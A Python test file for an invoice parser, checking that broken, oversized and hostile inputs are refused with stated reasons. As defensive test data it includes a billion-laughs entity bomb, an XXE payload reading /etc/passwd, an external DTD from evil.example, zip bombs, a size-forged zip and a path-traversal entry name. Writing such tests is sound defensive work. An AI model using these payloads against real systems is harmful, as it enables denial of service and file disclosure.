"""It refuses what is broken, hostile, oversized or of the wrong kind, each with its reason."""

import io
import struct
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roadbook.engines.invoices import archive, pictures
from roadbook.engines.invoices.documents import read_exactly
from roadbook.engines.invoices.facts import UnreadableDocument, UnreadableReason
from roadbook.engines.invoices.ofd import read_ofd
from roadbook.engines.invoices.safe_xml import MOST_BYTES, parse_xml
from roadbook.engines.invoices.tests import specimens

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><EInvoice>&c;</EInvoice>"""
SECRETS = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>
<EInvoice><Header><EIid>&s;</EIid></Header></EInvoice>"""
REMOTE = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><EInvoice/>'


def reason_of(content: bytes) -> UnreadableReason:
    with pytest.raises(UnreadableDocument) as refused:
        read_exactly(content)
    return refused.value.reason


@pytest.mark.parametrize(
    "content",
    [LAUGHS, SECRETS, REMOTE, LAUGHS.decode().encode("utf-16")],
    ids=["laughs", "secrets", "remote", "utf-16"],
)
def test_refuses_xml_with_entities_or_document_types(content: bytes) -> None:
    assert reason_of(content) is UnreadableReason.HOSTILE


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param(b"", UnreadableReason.WRONG_KIND, id="empty"),
        pytest.param(b"MZ\x90\x00 a program", UnreadableReason.WRONG_KIND, id="program"),
        pytest.param(b"GIF89a", UnreadableReason.WRONG_KIND, id="gif"),
        pytest.param(
            b"<html><body>hello</body></html>", UnreadableReason.WRONG_KIND, id="web page"
        ),
        pytest.param(b"<EInvoice><Header>", UnreadableReason.BROKEN, id="open invoice"),
        pytest.param(b"<EInvoice/>", UnreadableReason.NOTHING_FOUND, id="empty invoice"),
        pytest.param(specimens.fapiao_xml()[:600], UnreadableReason.BROKEN, id="half an invoice"),
        pytest.param(b"%PDF-1.7 nothing more", UnreadableReason.BROKEN, id="pdf head"),
        pytest.param(b"PK\x03\x04 nothing more", UnreadableReason.BROKEN, id="zip head"),
        pytest.param(specimens.ofd()[:900], UnreadableReason.BROKEN, id="half an ofd"),
        pytest.param(
            specimens.zipped({"word/document.xml": b"<w/>"}),
            UnreadableReason.NOTHING_FOUND,
            id="word",
        ),
        pytest.param(b"\x89PNG\r\n\x1a\n", UnreadableReason.BROKEN, id="png head"),
        pytest.param(b"\xff\xd8\xff\xe0", UnreadableReason.BROKEN, id="jpeg head"),
        pytest.param(b"<a>" * 100_000, UnreadableReason.BROKEN, id="deep"),
        pytest.param(
            b"<a>" + b"<b/>" * 60_000 + b"</a>", UnreadableReason.BOMB, id="many elements"
        ),
        pytest.param(
            b"<a>" + b" " * MOST_BYTES + b"</a>", UnreadableReason.TOO_LARGE, id="too large"
        ),
    ],
)
def test_says_why_a_file_is_refused(content: bytes, reason: UnreadableReason) -> None:
    assert reason_of(content) is reason


def test_refuses_a_picture_of_169_megapixels_before_decoding_it() -> None:
    content = specimens.giant_png()

    assert len(content) < 100_000
    assert reason_of(content) is UnreadableReason.TOO_MANY_PIXELS


def test_refuses_a_zip_bomb() -> None:
    assert reason_of(specimens.zipped({"OFD.xml": b"\0" * 30_000_000})) is UnreadableReason.BOMB


def test_refuses_a_zip_that_lies_about_its_size() -> None:
    packed = bytearray(specimens.zipped({"OFD.xml": b" " * 12_000_000}))
    at = packed.rfind(b"PK\x01\x02")
    packed[at + 24 : at + 28] = struct.pack("<I", 1_000)

    with pytest.raises(UnreadableDocument) as refused:
        read_ofd(bytes(packed))

    assert refused.value.reason in {UnreadableReason.BOMB, UnreadableReason.BROKEN}


def test_refuses_too_many_entries() -> None:
    many = {f"Doc_0/{number}.xml": b"<a/>" for number in range(archive.MOST_ENTRIES + 1)}

    assert reason_of(specimens.zipped(many)) is UnreadableReason.BOMB


def test_refuses_an_encrypted_zip() -> None:
    packed = bytearray(specimens.ofd())
    at = packed.find(b"PK\x01\x02")
    packed[at + 8] |= 1

    assert reason_of(bytes(packed)) is UnreadableReason.ENCRYPTED


def test_refuses_hostile_xml_inside_an_ofd() -> None:
    assert reason_of(specimens.zipped({"Doc_0/Attachs/a.xml": LAUGHS})) is UnreadableReason.HOSTILE


def test_never_opens_names_outside_the_archive() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as made:
        made.writestr("../../etc/evil.xml", specimens.fapiao_xml())

    facts = read_exactly(packed.getvalue()).facts

    assert facts is not None
    assert facts.number is not None


@pytest.mark.parametrize("form", ["PNG", "JPEG", "WEBP"])
def test_measures_pictures_by_their_header(form: str) -> None:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (321, 123), "white").save(out, format=form)

    assert pictures.refuse_oversized(out.getvalue()) == (321, 123)


@given(
    st.binary(max_size=300), st.sampled_from([b"", b"%PDF-", b"PK\x03\x04", b"\xff\xd8\xff", b"<"])
)
def test_raises_nothing_but_its_refusal_for_any_bytes(content: bytes, head: bytes) -> None:
    with suppress(UnreadableDocument):
        read_exactly(head + content)


def test_keeps_entities_unexpanded_even_if_a_check_were_to_fail() -> None:
    root = parse_xml(b"<a>&lt;safe&gt;</a>")

    assert root.text == "<safe>"
